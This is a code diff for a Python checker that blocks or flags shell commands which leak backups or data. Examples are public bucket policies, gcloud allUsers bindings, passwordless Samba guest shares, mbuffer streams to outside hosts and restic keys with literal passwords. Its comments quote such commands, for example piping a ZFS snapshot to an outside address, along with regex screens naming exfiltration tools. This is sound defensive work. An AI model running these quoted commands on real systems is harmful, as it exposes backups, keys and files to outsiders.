         _opened(a, cmd, f"mc {pos[0]} set {pos[2]}", pos[3], pos[2] in ("public", "upload", "readwrite", "writeonly"))
+    elif pos[:2] in (["anonymous", "set-json"], ["policy", "set-json"]) and len(pos) >= 4:
+        _anonymous_json(a, cmd, f"mc {pos[0]} set-json", pos[2], pos[3])
+
+
+# (`s3:PutObject`, `s3:DeleteObject`, `s3:*`: what lets anyone write, or empty the bucket)
+_WRITES = re.compile(r"(?i)^s3:(?:\*|Put|Delete|Abort|Restore|Replicate)")
+
+
+def _anonymous_json(a, cmd: Cmd, shown: str, policy: str | None, target: str | None) -> None:
+    """`mc anonymous set-json FILE alias/bucket`: the anonymous policy a file of this input holds; a file the input
+    did not write is left to a person (any such policy lets someone without a login in)."""
+    from .written import text_written
+
+    got = text_written(a, policy) if policy else None
+    actions = bt.public_policy(got[0]) if got is not None else None
+    if got is None:
+        a.review("exfiltration", f"`{shown} {policy}` gives anonymous access to {target or 'the bucket'} by a policy "
+                                 "this command does not show; a person should read it first", cmd.node)
+    elif actions:
+        _opened(a, cmd, shown, target, any(_WRITES.match(x) for x in actions))
 
 
 def _opened(a, cmd: Cmd, shown: str, name: str | None, writes: bool) -> None:
@@ -387,9 +794,93 @@ def _aws(a, cmd: Cmd) -> None:
         return
     words = option_value(cmd.args, "--replication-configuration")
     body = _literal_or_file(a, words[0]) if words else None
-    found = bt.replication_finding(body) if body else None
+    source = next((w.value for w in option_value(cmd.args, "--bucket")), None)
+    found = bt.replication_finding(body, source) if body else None
     if found:
-        a.block("exfiltration", f"`aws s3api put-bucket-replication`: {found}", cmd.node)
+        (a.block if found[0] else a.review)("exfiltration", f"`aws s3api put-bucket-replication`: {found[1]}", cmd.node)
+
+
+_GCLOUD_ARG = _GS_ARG | {"--member", "--role", "--condition", "--condition-from-file", "--add-acl-grant",
+                         "--predefined-acl", "--predefined-default-object-acl"}
+_EVERYONE = frozenset({"allusers", "allauthenticatedusers"})
+# (a role that also writes: an uploader, an admin, a legacy writer or owner)
+_WRITER_ROLE = re.compile(r"(?i)admin|creator|writer|owner|editor|user$")
+
+
+def _gcloud(a, cmd: Cmd) -> None:
+    """`gcloud storage buckets add-iam-policy-binding gs://b --member=allUsers`, an ACL grant or a predefined public ACL
+    on a bucket or its objects: judged as `gsutil iam ch allUsers:…` (bash/infra.py) and `mc anonymous set`."""
+    pos = _pos(cmd, _GCLOUD_ARG)
+    if pos[:1] != ["storage"] or len(pos) < 4 or pos[1] not in ("buckets", "objects"):
+        return
+    target = pos[3] or ""
+    if pos[2] == "add-iam-policy-binding":
+        member = next((w.value for w in option_value(cmd.args, "--member") if (w.value or "").lower() in _EVERYONE),
+                      None)
+        if member:
+            role = next((w.value or "" for w in option_value(cmd.args, "--role")), "")
+            _opened(a, cmd, f"gcloud storage {pos[1]} add-iam-policy-binding --member={member}", target,
+                    _WRITER_ROLE.search(role) is not None)
+    elif pos[2] in ("update", "create"):
+        grants = " ".join(w.value or "" for w in option_value(cmd.args, "--add-acl-grant")).lower()
+        acls = {(w.value or "").lower() for w in option_value(cmd.args, "--predefined-acl",
+                                                              "--predefined-default-object-acl")}
+        if "entity=allusers" in grants or "entity=allauthenticatedusers" in grants or \
+                acls & {"publicread", "public-read", "publicreadwrite", "public-read-write"}:
+            _opened(a, cmd, f"gcloud storage {pos[1]} {pos[2]}", target,
+                    "write" in grants or "owner" in grants or any("write" in x for x in acls))
+
+
+# a home folder, every home, the whole system or its settings: what a guest share must never be of, even read only
+_GUEST_NEVER = frozenset({"~", "/home", "/Users", "/", "/etc", "/var"})
+
+
+def _usershare(a, cmd: Cmd) -> None:
+    """`net usershare add NAME PATH COMMENT Everyone:F guest_ok=y`: a share any machine of the network may write
+    without a password (as a Samba guest share anyone writes, share_opened); a guest share of the machine's backups, a
+    repository's keys, a whole home or the system, even read only, lets anyone on the network take them. Shares with
+    accounts, and guest shares of other folders to read, stay allowed."""
+    pos = _pos(cmd)
+    if pos[:2] != ["usershare", "add"] or len(pos) < 6:
+        return
+    path, acl = pos[3] or "", (pos[5] or "").lower()
+    guest = any((p or "").lower() in ("guest_ok=y", "guest_ok=yes", "guest_ok=true") for p in pos[6:])
+    if not guest:
+        return
+    # (`Everyone:F`, `BUILTIN\Everyone:f`, `S-1-1-0:F`: full control for every user, guests included)
+    if any(who.rsplit("\\", 1)[-1] in ("everyone", "s-1-1-0") and perm == "f"
+           for who, _, perm in (e.rpartition(":") for e in acl.split(","))):
+        a.block("permission-tamper", f"`net usershare add {pos[2]} {path}` with `{pos[5]}` and `guest_ok=y` lets "
+                                     "anyone on the network write the share without a password; give it to the "
+                                     "accounts that need it, read only", cmd.node)
+    elif _held(path):
+        a.block("exfiltration", f"`net usershare add {pos[2]} {path}` with `guest_ok=y` lets anyone on the network "
+                                "read the machine's backups or a repository's keys without a password; share them "
+                                "only with the accounts that restore them", cmd.node)
+    elif (paths.normalize(path).rstrip("/") or "/") in _GUEST_NEVER:
+        a.block("exfiltration", f"`net usershare add {pos[2]} {path}` with `guest_ok=y` lets anyone on the network "
+                                "read the whole home folder or the system's files (keys, tokens, settings) without a "
+                                "password; share a folder made for sharing (`~/Public`)", cmd.node)
+
+
+def _mbuffer(a, cmd: Cmd) -> None:
+    """`zfs send tank@x | mbuffer -O 198.51.100.7:9000`: mbuffer's network output, read as `nc ADDR PORT` is."""
+    from .brokers import _feeders
+
+    if not in_input(_FEED, a.doc.data):
+        return
+    for w in option_value(cmd.args, "-O"):
+        v = w.value or ""
+        host = v[1:].split("]", 1)[0] if v.startswith("[") else v.rsplit(":", 1)[0] if ":" in v else v
+        where = _outside(host)
+        if where is None:
+            continue
+        for c in _feeders(a, cmd):
+            what = _printed(c) or _key(c) or _backups_read(c)
+            if what:
+                a.block("exfiltration", f"{what} is sent by `mbuffer -O` to {where}; keep backups in the "
+                                        "organisation's own storage", cmd.node)
+                return
 
 
 # -- shares, keys, tunnels ---------------------------------------------------------------------------------------
@@ -438,20 +929,73 @@ def share_opened(path: str, text: str | None) -> str | None:
     return None
 
 
+def _literal(text: str | None) -> bool:
+    return bool(text and text.strip()) and "$" not in text and "`" not in text  # type: ignore[operator]
+
+
+def _known_password(a, cmd: Cmd, w) -> bool:
+    """Whether the password file `w` holds a password written in this input: the `echo`/`printf` of a process
+    substitution (`<(echo 'Wint3r!2024')`), a here-string or here-document there (`<(cat <<< '…')`) or fed to
+    `/dev/stdin`, a file an earlier command filled with a literal (`echo '…' > /tmp/p`). A file made by `openssl
+    rand`, `pass show` or a variable is not known here."""
+    from .exec import stdin_text
+    from .written import text_written
+
+    if w.substitutions:
+        return any(c.name in ("echo", "printf") and c.args and all("$" not in x.text for x in c.args) or
+                   c.name == "cat" and not c.args and _literal((stdin_text(a, c) or ("",))[0])
+                   for c in a.visit_substs(w))
+    if w.value in _STDIN:
+        return _literal(_fed_text(a, cmd))
+    got = text_written(a, w.value) if w.value else None
+    return got is not None and _literal(got[0])
+
+
+def _repo(c: Cmd) -> str | None:
+    """The repository a restic command names (`-r`, `--repo`, `RESTIC_REPOSITORY=` before it); "" for the one the
+    environment names."""
+    given = [w.value for w in option_value(c.args, "-r", "--repo")]
+    given += [w.value for name, w in c.assigns if name == "RESTIC_REPOSITORY"]
+    return given[-1] if given else ""
+
+
+# (a repository there is a throwaway: `restic init` of one that exists fails, and `;` runs the next command anyway, so
+# an earlier `init` alone does not say the repository is new)
+_SCRATCH = re.compile(r"^(?:/tmp|/var/tmp|/dev/shm)/")
+
+
+def _made_here(a, cmd: Cmd) -> bool:
+    """Whether an earlier `restic init` of this input made the scratch repository `cmd` names (a test's: its keys
+    guard nothing)."""
+    repo = _repo(cmd)
+    return bool(repo) and _SCRATCH.match(paths.normalize(repo)) is not None and ".." not in repo and any(  # type: ignore
+        doc is a.doc and c.name == "restic" and c.node.start_byte < cmd.node.start_byte and
+        _pos(c, _RESTIC_ARG)[:1] == ["init"] and _repo(c) == repo for doc, c in a.ctx.commands)
+
+
 def _restic_key(a, cmd: Cmd) -> None:
-    pos = _pos(cmd, _RESTIC_ARG | {"--new-password-file", "--new-insecure-no-password", "--user"})
+    pos = _pos(cmd, _RESTIC_ARG | {"--new-password-file", "--user"})
     if pos[:2] not in (["key", "add"], ["key", "passwd"]):
         return
-    for w in option_value(cmd.args, "--new-password-file"):
-        if w.node is not None and w.node.type == "process_substitution":
-            inner = [c for c in a.visit_subst(w.node)]
-            if any(c.name in ("echo", "printf") and c.args and all("$" not in x.text for x in c.args)
-                   for c in inner):
-                a.block("persistence", f"`restic key {pos[1]}` gives the repository a password written on the line: "
-                                       "a login to every backup the agent knows and that stays when the other keys "
-                                       "change; let the user add keys, with a password from the password store",
-                        cmd.node)
-                return
+    shown = f"restic key {pos[1]}"
+    if "--new-insecure-no-password" in cmd.values():
+        if not _made_here(a, cmd):
+            a.block("persistence", f"`{shown} --new-insecure-no-password` gives the repository a key with no password: "
+                                   "anyone who reaches the repository opens every backup in it, whatever the other "
+                                   "keys become; let the user add keys, with a password from the password store",
+                    cmd.node)
+        return
+    words = option_value(cmd.args, "--new-password-file")
+    # (`--new-password-file=<(echo …)`: the grammar ends the word at the `=`, the substitution is the next one)
+    args = cmd.args
+    words += [args[k + 1] for k, w in enumerate(args[:-1]) if w.value == "--new-password-file=" and
+              w.node is not None and args[k + 1].node is not None and w.node.end_byte == args[k + 1].node.start_byte]
+    # (with no file, restic reads the new password from its standard input when that is not a terminal)
+    known = any(_known_password(a, cmd, w) for w in words) if words else _literal(_fed_text(a, cmd))
+    if known and not _made_here(a, cmd):
+        a.block("persistence", f"`{shown}` gives the repository a password written in the command: a login to every "
+                               "backup the agent knows and that stays when the other keys change; let the user add "
+                               "keys, with a password from the password store", cmd.node)
 
 
 def _tunnel(a, cmd: Cmd) -> None:
@@ -659,11 +1203,22 @@ def _plain_sudo(cmd: Cmd) -> bool:
     return True
 
 
-def _symlinked_mount_point(node) -> bool:
-    """Whether the input makes a link (`ln -s /etc /mnt/x`) anywhere: mount follows one at the mount point."""
+def _root(node):
     while node.parent is not None:
         node = node.parent
-    return re.search(rb"\bln\b|symlink", node.text) is not None
+    return node
+
+
+# (asked once per input: the tree's root is the key, and a root kept here keeps its tree, so no other input's root can
+# take its place)
+@lru_cache(maxsize=8)
+def _input_links(root) -> bool:
+    return re.search(rb"\bln\b|symlink", root.text) is not None
+
+
+def _symlinked_mount_point(node) -> bool:
+    """Whether the input makes a link (`ln -s /etc /mnt/x`) anywhere: mount follows one at the mount point."""
+    return _input_links(_root(node))
 
 
 def root_upkeep(cmd: Cmd, vals: list[str]) -> str | None:
@@ -671,9 +1226,27 @@ def root_upkeep(cmd: Cmd, vals: list[str]) -> str | None:
     check = STORAGE_QUERIES.get(cmd.name)
     if check is None or not _plain_sudo(cmd) or not check(vals, [v for v in vals if v[:1] != "-"]):
         return None
-    if cmd.name == "mount" and _symlinked_mount_point(cmd.node):
+    if cmd.name == "mount" and _symlinked_mount_point(cmd.node) or \
+            cmd.name == "borgmatic" and _user_borgmatic(cmd.node):
         return None
     return f"`{cmd.name}`'s storage upkeep"
+
+
+# A plain `sudo` sets HOME to root's and drops XDG_CONFIG_HOME (env_reset), so borgmatic reads the system's
+# configuration; where sudoers keeps HOME (`env_keep`, an older Ubuntu), it reads the user's, whose hooks run as root.
+# An input that writes or names such a configuration itself (`~/.config/borgmatic`, or a `borgmatic/` folder written
+# from `~/.config`) keeps the review; the system's own (`/etc/borgmatic/`) does not.
+_USER_BORGMATIC = re.compile(rb"\.config/borgmatic|\.borgmatic\.d|XDG_CONFIG_HOME|(?<![\w$])HOME=|"
+                             rb"(?<!/etc/)(?<![\w.-])borgmatic(?:\.d)?/")
+
+
+@lru_cache(maxsize=8)
+def _input_borgmatic(root) -> bool:
+    return _USER_BORGMATIC.search(root.text) is not None
+
+
+def _user_borgmatic(node) -> bool:
+    return _input_borgmatic(_root(node))
 
 
 # a snapshot named at run time by the date (`tank/home@pre-upgrade-$(date +%F)`): only conversions that print digits
@@ -728,6 +1301,11 @@ def storage_upkeep(a, cmd: Cmd) -> bool:
 HANDLERS: dict = {
     **{n: [_sent] for n in NET_SENDERS},
     "velero": [_velero],
+    "sftp": [_sent, _sftp],
+    "mbuffer": [_mbuffer],
+    "lftp": [_lftp],
+    "gcloud": [_gcloud, _filled],
+    "net": [_usershare],
     "rsync": [_copied_out],
     "scp": [_copied_out],
     "rclone": [_rclone],
@@ -741,17 +1319,23 @@ HANDLERS: dict = {
     "gsutil": [_filled],
     "cloudflared": [_tunnel],
 }
-_FEEDS_RX = re.compile(r"restic|borg|s3 cp|gsutil|rclone|mc (?:cat|share)|storage (?:cat|sign-url)|zfs|btrfs|"
-                       r"generate-sas|presign|signurl|/var/backups")
-# a copier's destination named by a dotted host or an address (`user@203.0.113.9:`), and a source the organisation's
-_DOTTED_REMOTE = re.compile(r"\.[\w-]*+:|\]:")  # (from each dot to the next: read once)
-_DATA_HINT = mentions("/var/", "/srv", "/mnt", "/data", "/backup", "/home", "/root", "/etc", "/opt/", "~", "dump",
-                      "backup", ".sql", ".bak", ".rdb", ".snap", "$HOME")
+_FEEDS_RX = re.compile(r"restic|borg|s3 cp|gsutil|rclone|mc (?:cat|share)|storage (?:cat|cp|sign-url)|zfs|btrfs|"
+                       r"generate-sas|presign|signurl|/var/backups|blob download")
+# a copier's destination named by a dotted host, an address (`user@203.0.113.9:`, `[2606:4700::1]:`) or a URL
+_DOTTED_REMOTE = re.compile(r"\.[\w-]*+:|\]:|rsync://")  # (from each dot to the next: read once)
+# what an sftp batch or an lftp script reaches the handlers through: its uploads (any case), a `!` or a filter to the
+# shell, text fed on the standard input or from a file, escapes a printf decodes
+_SFTP_SCREEN = mentions("put", "!", "<", "|", "\\", fold=True)
 SCREENS: dict = {
     **{n: (lambda text: _FEEDS_RX.search(text) is not None) for n in NET_SENDERS},
     "velero": mentions("download", "location"),
-    "rsync": lambda text: _DOTTED_REMOTE.search(text) is not None and _DATA_HINT(text),
-    "scp": lambda text: _DOTTED_REMOTE.search(text) is not None and _DATA_HINT(text),
+    "sftp": lambda text: _FEEDS_RX.search(text) is not None or _SFTP_SCREEN(text),
+    "mbuffer": mentions("-O"),
+    "lftp": mentions("put", "mirror", "!", "|", "source", "on-change", "\\", fold=True),
+    "gcloud": mentions("storage"),
+    "net": mentions("usershare"),
+    "rsync": lambda text: _DOTTED_REMOTE.search(text) is not None,
+    "scp": lambda text: _DOTTED_REMOTE.search(text) is not None,
     "rclone": lambda text: re.search(r"(?:^|[\s\"'=]):[a-z]|config create", text) is not None,
     "mc": mentions("anonymous", "policy", "alias set", "config host", "MC_HOST_"),
     "az": mentions("--public-access"),
